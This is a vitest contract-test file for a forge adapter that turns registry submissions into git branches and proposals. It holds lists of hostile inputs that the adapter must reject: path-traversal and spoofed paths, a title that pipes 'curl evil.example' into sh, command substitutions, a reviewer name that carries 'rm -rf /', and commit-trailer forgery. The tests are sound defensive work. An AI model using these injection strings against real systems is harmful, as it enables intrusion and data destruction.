import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { branchOf } from '#registry/forge/forge.ts';
import { type ForgeBench, sampleProposal, proposedPath } from './forge-bench.ts';

const EXISTING = 'content/cases/ury/uruguay-plan-ceibal';

export const evilPaths = [
  '../escape.md',
  '/etc/passwd',
  '.git/config',
  '.git/hooks/post-checkout',
  'content/cases/chl/a-case/.git/config',
  'content/cases/chl/a-case/.GIT/config',
  'content/cases/chl/a-case/git~1/config',
  'content/cases/chl/a-case/.gi\u200ct/config',
  'content/cases/chl/../../../.github/workflows/pwn.yml',
  'content/cases/chl/a-case/../../../registry.yml',
  '.github/workflows/pwn.yml',
  '.github/CODEOWNERS',
  'CODEOWNERS',
  '.gitmodules',
  '.gitattributes',
  'content/registry.yml',
  'content/cases/chl/a-case/.gitattributes',
  'content/cases/chl/con/index.md',
  'content/cases/chl/a-case/con.md',
  'content/cases/chl/a-case/files/aux.pdf',
  'content/cases/chl/a-case/files/page.svg',
  'content/cases/chl/a-case/files/photo.png\u202egpj.pdf',
  'content/cases/chl/a-case/files/photo.jpg.md',
  'content/cases/chl/a-case/index.md\n.git/config',
  'content/cases/chl/a-case/index.md\0',
  'content/cases/chl/a-case//index.md',
  'content/cases/chl/a-case/./index.md',
  'content\\cases\\chl\\a-case\\index.md',
  'content/cases/CHL/a-case/index.md',
  'content/cases/xxx/a-case/index.md',
  'content/cases/chl/rаpanui/index.md',
  `content/cases/chl/${'a'.repeat(81)}/index.md`,
  'content/cases/chl/a-case',
  '',
];

/** The contract of every forge; an adapter must pass it. */
export function describeForge(name: string, open: () => Promise<ForgeBench>): void {
  describe(`the forge ${name}`, () => {
    let bench: ForgeBench;
    beforeAll(async () => {
      bench = await open();
    });
    afterAll(() => bench.close());

    describe('a proposal', () => {
      test('is a branch with exactly its files, and leaves the base branch as it was', async () => {
        const before = await bench.base();
        const proposal = sampleProposal();
        const state = await bench.forge.propose(proposal);
        expect(state).toMatchObject({
          submissionId: proposal.submissionId,
          branch: branchOf(proposal.submissionId),
          status: 'open',
        });
        expect([...(await bench.changesOf(proposal.submissionId)).keys()]).toEqual([proposedPath(proposal.submissionId)]);
        expect(await bench.base()).toBe(before);
        expect(await bench.parentsOf(state.commit)).toEqual([before]);
      });

      test('keeps every byte of its files', async () => {
        const proposal = sampleProposal();
        const texts = {
          index: 'uno\r\ndos\r\n',
          es: 'an\u0303o y año\n',
          pt: 'fim sem quebra  \t',
          en: '🌱 \u00a0 \n\n\n',
          fr: '',
        };
        const picture = Uint8Array.from({ length: 600 }, (_, index) => index % 256);
        const files = [
          ...Object.entries(texts).map(([locale, content]) => ({
            path: proposedPath(proposal.submissionId, `${locale}.md`),
            content,
          })),
          { path: proposedPath(proposal.submissionId, 'files/photo-1.png'), content: picture },
        ];
        await bench.forge.propose({ ...proposal, files });
        const changes = await bench.changesOf(proposal.submissionId);
        expect(changes.size).toBe(files.length);
        for (const { path, content } of files) expect(changes.get(path)).toEqual(Buffer.from(content));
      });

      test('names its submission and who asked to be credited in its one commit', async () => {
        const coAuthor = { name: 'Ana Núñez', email: 'ana@lab.gob.example' };
        const proposal = sampleProposal({ coAuthor });
        const { commit } = await bench.forge.propose(proposal);
        expect((await bench.messageOf(commit)).trimEnd()).toBe(
          `${proposal.title}\n\nSubmission-Id: ${proposal.submissionId}\nCo-authored-by: Ana Núñez <ana@lab.gob.example>`,
        );
      });

      test('of an improvement changes what it names and leaves the rest of the record', async () => {
        const proposal = sampleProposal({ action: 'improve', files: [{ path: `${EXISTING}/index.md`, content: 'Mejor.\n' }] });
        await bench.forge.propose(proposal);
        expect([...(await bench.changesOf(proposal.submissionId)).keys()]).toEqual([`${EXISTING}/index.md`]);
      });
    });

    describe('the content that proposals are made from', () => {
      const textOf = async (path: string) => {
        const file = (await bench.forge.readBase()).tree.get(path.replace('content/', ''));
        return file && 'text' in file ? file.text : file;
      };

      test('is what the base branch has, below the content folder', async () => {
        const { commit, tree } = await bench.forge.readBase();
        expect(commit).toBe(await bench.base());
        expect(await bench.forge.readTip()).toBe(commit);
        const names = [...tree.keys()];
        expect(names).toEqual(expect.arrayContaining(['cases/ury/uruguay-plan-ceibal/index.md', 'registry.yml']));
        expect(names).toEqual(names.toSorted());
        expect(names.filter((name) => /README|notes/.test(name))).toEqual([]);
        expect(await textOf(`${EXISTING}/en.md`)).toBe('---\ntitle: Plan Ceibal\n---\n\n## Context\n\nA text.\n');
      });

      test('is the very same as long as the branch stays, and the same file by file where nothing changed', async () => {
        const before = await bench.forge.readBase();
        expect((await bench.forge.readBase()).tree).toBe(before.tree);
        await bench.commit(undefined, 'README.md', `# Not content ${Date.now()}\n`, 'Elsewhere');
        const elsewhere = await bench.forge.readBase();
        expect(elsewhere.commit).not.toBe(before.commit);
        expect(elsewhere.tree).toBe(before.tree);
        await bench.commit(undefined, 'content/cases/chl/another/index.md', 'Otro.\n', 'A case');
        const { tree } = await bench.forge.readBase();
        expect(tree.get('cases/chl/another/index.md')).toEqual({ text: 'Otro.\n' });
        for (const [path, file] of before.tree) expect(tree.get(path), path).toBe(file);
      });

      test('shares the files that are known from elsewhere, and reads the others', async () => {
        const known = new Map((await bench.forge.readBase()).tree);
        await bench.commit(undefined, `${EXISTING}/pt.md`, `Novo ${Date.now()}.\n`, 'Translate');
        const forge = await bench.reopen(() => known);
        const { tree } = await forge.readBase();
        for (const [path, file] of known) expect(tree.get(path), path).toBe(file);
        expect(tree.has('cases/ury/uruguay-plan-ceibal/pt.md')).toBe(true);
        await forge.close();
      });

      test('names what it does not read: bytes that are no text, and hidden files it passes by', async () => {
        await bench.commit(undefined, `${EXISTING}/files/1.png`, 'not a picture\n', 'A picture');
        await bench.commit(undefined, 'content/.hidden/x.md', 'x', 'Hidden');
        const { tree } = await bench.forge.readBase();
        expect(tree.get('cases/ury/uruguay-plan-ceibal/files/1.png')).toEqual({ refused: 'not-utf8' });
        expect([...tree.keys()].filter((name) => name.includes('hidden'))).toEqual([]);
      });

      test('is where a proposal starts that was made from it, though the branch has moved on', async () => {
        const { commit } = await bench.forge.readBase();
        await bench.commit(undefined, 'README.md', `# Moved ${Date.now()}\n`, 'Move on');
        const state = await bench.forge.propose(sampleProposal({ base: commit }));
        expect(await bench.parentsOf(state.commit)).toEqual([commit]);
        await bench.merge(state.submissionId);
        expect(await textOf(proposedPath(state.submissionId))).toContain('Huertas escolares');
      });

      test('a proposal takes back nothing that somebody changed since: both changes are there after it is merged', async () => {
        const lines = (first: string, last: string) => `${first}\n\n\n\nen medio\n\n\n\n${last}\n`;
        const path = 'content/cases/chl/changed-twice/index.md';
        await bench.commit(undefined, path, lines('uno', 'dos'), 'A case');
        const { commit } = await bench.forge.readBase();
        await bench.commit(undefined, path, lines('uno, corregido', 'dos'), 'Correct a fact');
        const files = [{ path, content: lines('uno', 'dos, mejorado') }];
        const { submissionId } = await bench.forge.propose(sampleProposal({ action: 'improve', base: commit, files }));
        await bench.merge(submissionId);
        expect(await textOf(path)).toBe(lines('uno, corregido', 'dos, mejorado'));
      });

      test('a proposal that changes what somebody else changed since does not merge', async () => {
        const path = 'content/cases/chl/changed-by-two/index.md';
        await bench.commit(undefined, path, 'uno\n', 'A case');
        const { commit } = await bench.forge.readBase();
        await bench.commit(undefined, path, 'uno, corregido\n', 'Correct a fact');
        const files = [{ path, content: 'uno, mejorado\n' }];
        const { submissionId } = await bench.forge.propose(sampleProposal({ action: 'improve', base: commit, files }));
        await expect(bench.merge(submissionId)).rejects.toThrow();
        expect(await textOf(path)).toBe('uno, corregido\n');
      });
    });

    describe('exactly once:', () => {
      test('the same submission again is the same proposal, even when the base branch has moved', async () => {
        const proposal = sampleProposal();
        const first = await bench.forge.propose(proposal);
        await bench.commit(undefined, 'README.md', `# Moved ${Date.now()}\n`, 'Move on');
        const second = await bench.forge.propose(proposal);
        expect(second.commit).toBe(first.commit);
        expect(second.number).toBe(first.number);
        expect(await bench.count(proposal.submissionId)).toEqual({ proposals: 1, branches: 1 });
      });

      test('ten at once with one submission end with one proposal', async () => {
        const proposal = sampleProposal();
        const states = await Promise.all(Array.from({ length: 10 }, () => bench.forge.propose(proposal)));
        expect(new Set(states.map(({ commit }) => commit)).size).toBe(1);
        expect(new Set(states.map(({ number }) => number)).size).toBe(1);
        expect(await bench.count(proposal.submissionId)).toEqual({ proposals: 1, branches: 1 });
      });

      test('twenty submissions at once are twenty proposals', async () => {
        const proposals = Array.from({ length: 20 }, () => sampleProposal());
        await Promise.all(proposals.map((proposal) => bench.forge.propose(proposal)));
        const listed = (await bench.forge.list({ status: 'open' })).map(({ submissionId }) => submissionId);
        expect(listed).toEqual(expect.arrayContaining(proposals.map(({ submissionId }) => submissionId)));
      });

      test('another process finds what the first one made', async () => {
        const proposal = sampleProposal();
        const first = await bench.forge.propose(proposal);
        const forge = await bench.reopen();
        expect(await forge.read(proposal.submissionId)).toEqual(await bench.forge.read(proposal.submissionId));
        expect((await forge.propose(proposal)).commit).toBe(first.commit);
        await forge.close();
      });

      test('a branch that a crash left without anything else is completed', async () => {
        const proposal = sampleProposal();
        const message = `${proposal.title}\n\nSubmission-Id: ${proposal.submissionId}\n`;
        const tip = await bench.commit(branchOf(proposal.submissionId), proposedPath(proposal.submissionId), 'x\n', message);
        expect(await bench.forge.read(proposal.submissionId)).toBeUndefined();
        expect(await bench.forge.propose(proposal)).toMatchObject({ commit: tip, status: 'open' });
        expect(await bench.count(proposal.submissionId)).toEqual({ proposals: 1, branches: 1 });
      });

      test("somebody else's branch of that name is refused and left alone", async () => {
        const proposal = sampleProposal();
        const message = `Submission-Id: ${proposal.submissionId}\n\nNot from the registry.\n`;
        const tip = await bench.commit(branchOf(proposal.submissionId), 'README.md', 'Mine.\n', message);
        await expect(bench.forge.propose(proposal)).rejects.toMatchObject({ name: 'Rejected', reason: 'foreign-branch' });
        expect(await bench.count(proposal.submissionId)).toEqual({ proposals: 0, branches: 1 });
        expect(await bench.messageOf(tip)).toContain('Not from the registry.');
      });
    });

    describe('what people do with it:', () => {
      test('merged is seen, with the commit, and proposing it again changes nothing', async () => {
        const proposal = sampleProposal();
        const { commit } = await bench.forge.propose(proposal);
        await bench.merge(proposal.submissionId);
        const state = await bench.forge.read(proposal.submissionId);
        expect(state).toMatchObject({ status: 'merged', commit, mergedCommit: await bench.base() });
        expect(await bench.forge.propose(proposal)).toMatchObject({ status: 'merged', commit });
        expect((await bench.forge.list({ status: 'merged' })).map(({ submissionId }) => submissionId)).toContain(
          proposal.submissionId,
        );
        expect((await bench.forge.list({ status: 'open' })).map(({ submissionId }) => submissionId)).not.toContain(
          proposal.submissionId,
        );
      });

      test('declined is seen, and proposing it again neither reopens it nor makes another', async () => {
        const proposal = sampleProposal();
        await bench.forge.propose(proposal);
        await bench.decline(proposal.submissionId);
        expect(await bench.forge.read(proposal.submissionId)).toMatchObject({ status: 'closed' });
        expect(await bench.forge.propose(proposal)).toMatchObject({ status: 'closed' });
        expect((await bench.count(proposal.submissionId)).proposals).toBe(1);
        expect((await bench.forge.list({ status: 'closed' })).map(({ submissionId }) => submissionId)).toContain(
          proposal.submissionId,
        );
      });

      test('a branch that somebody deleted is given up, and is not made again', async () => {
        const proposal = sampleProposal();
        await bench.forge.propose(proposal);
        await bench.deleteBranch(branchOf(proposal.submissionId));
        expect(await bench.forge.propose(proposal)).toMatchObject({ status: 'closed' });
        expect(await bench.count(proposal.submissionId)).toEqual({ proposals: 1, branches: 0 });
      });

      test("a reviewer's commit on the branch is the proposal's tip, and stays when it is proposed again", async () => {
        const proposal = sampleProposal();
        await bench.forge.propose(proposal);
        const tip = await bench.commit(
          branchOf(proposal.submissionId),
          proposedPath(proposal.submissionId),
          'Revisado.\n',
          'Revise',
        );
        expect(await bench.forge.read(proposal.submissionId)).toMatchObject({ commit: tip, status: 'open' });
        expect(await bench.forge.propose(proposal)).toMatchObject({ commit: tip });
      });

      test('what does not merge any more is not merged, and stays open', async () => {
        const proposal = sampleProposal({
          action: 'improve',
          files: [{ path: `${EXISTING}/index.md`, content: 'De otro modo.\n' }],
        });
        await bench.forge.propose(proposal);
        await bench.commit(undefined, `${EXISTING}/index.md`, `Ya distinto ${Date.now()}.\n`, 'Change it meanwhile');
        const before = await bench.base();
        await expect(bench.merge(proposal.submissionId)).rejects.toThrow();
        expect(await bench.base()).toBe(before);
        expect(await bench.forge.read(proposal.submissionId)).toMatchObject({ status: 'open' });
      });

      test('what nobody proposed is not there', async () => {
        expect(await bench.forge.read('nobody-sent-this')).toBeUndefined();
        expect(await bench.forge.read('../main')).toBeUndefined();
      });
    });

    describe('refuses, and writes nothing,', () => {
      async function refused(given: Parameters<typeof sampleProposal>[0], reason: string): Promise<void> {
        const proposal = sampleProposal(given);
        await expect(bench.forge.propose(proposal)).rejects.toMatchObject({ name: 'Rejected', reason });
        if (given?.submissionId === undefined)
          expect(await bench.count(proposal.submissionId)).toEqual({ proposals: 0, branches: 0 });
      }

      test('a new case in the place of one that exists', async () => {
        await refused({ files: [{ path: `${EXISTING}/index.md`, content: 'x' }] }, 'taken');
        await refused({ files: [{ path: `${EXISTING}/pt.md`, content: 'x' }] }, 'taken');
      });

      test('an improvement of a case that does not exist', () => refused({ action: 'improve' }, 'missing'));

      test('an improvement that changes nothing', async () => {
        const content = '---\ntitle: Plan Ceibal\n---\n\n## Context\n\nA text.\n';
        await refused({ action: 'improve', files: [{ path: `${EXISTING}/en.md`, content }] }, 'nothing-changed');
      });

      test('row 6: every path outside one record, whoever calls it', async () => {
        for (const path of evilPaths)
          await refused({ files: [{ path, content: path.endsWith('.md') ? 'x' : new Uint8Array(1) }] }, 'path');
      });

      test('row 6: files of two records, the same file twice, or no file', async () => {
        const [one, two] = [sampleProposal().files[0]!, sampleProposal().files[0]!];
        await refused({ files: [one, two] }, 'path');
        await refused({ files: [one, one] }, 'path');
        await refused({ files: [] }, 'malformed');
      });

      test.each([
        ['"; curl evil.example | sh #'],
        ['${{ github.token }}'],
        ['`id`'],
        ['$(id)'],
        ['two\nlines'],
        ['@network/everyone mira'],
        ['Fixes #1'],
        ['closes GH-1'],
        ['<!-- hidden -->'],
        ['right to \u202e left'],
        ['x'.repeat(121)],
        [' '],
        [''],
      ])('row 12: the title %j', (title) => refused({ title }, 'malformed'));

      test.each([['a b/../main'], ['..'], ['UPPER'], ['x.lock'], ['-option'], ['a;b'], ['x'.repeat(65)], ['']])(
        'row 12: the submission id %j, which would name the branch',
        (submissionId) => refused({ submissionId }, 'malformed'),
      );

      test('row 12: labels and reviewers that are no names', async () => {
        await refused({ labels: ['<script>'] }, 'malformed');
        await refused({ reviewers: ['ana; rm -rf /'] }, 'malformed');
        await refused({ reviewers: ['--force'] }, 'malformed');
      });

      test('a text that is not text, and an attachment that is not bytes', async () => {
        await refused({ files: [{ path: proposedPath('x'), content: new Uint8Array(3) }] }, 'malformed');
        await refused({ files: [{ path: proposedPath('x'), content: 'half a pair: \ud83d' }] }, 'malformed');
        await refused({ files: [{ path: proposedPath('x', 'files/a.pdf'), content: 'text' }] }, 'malformed');
      });

      test('row 13: a co-author whose name would forge another trailer is cut down to a name', async () => {
        const proposal = sampleProposal({
          coAuthor: { name: 'Eve\nSubmission-Id: other\n\nFixes #1 @org <x@y.z>', email: 'eve@lab.example' },
        });
        const { commit } = await bench.forge.propose(proposal);
        const trailers = (await bench.messageOf(commit)).trimEnd().split('\n\n').at(-1)!.split('\n');
        expect(trailers).toHaveLength(2);
        expect(trailers[0]).toBe(`Submission-Id: ${proposal.submissionId}`);
        expect(trailers[1]).toMatch(/^Co-authored-by: [^<>@#]+ <eve@lab\.example>$/);
        const forged = sampleProposal({ coAuthor: { name: 'Eve', email: 'eve@lab.example>\nSubmission-Id: other' } });
        const message = await bench.messageOf((await bench.forge.propose(forged)).commit);
        expect(message.trimEnd()).toBe(`${forged.title}\n\nSubmission-Id: ${forged.submissionId}`);
      });
    });
  });
}
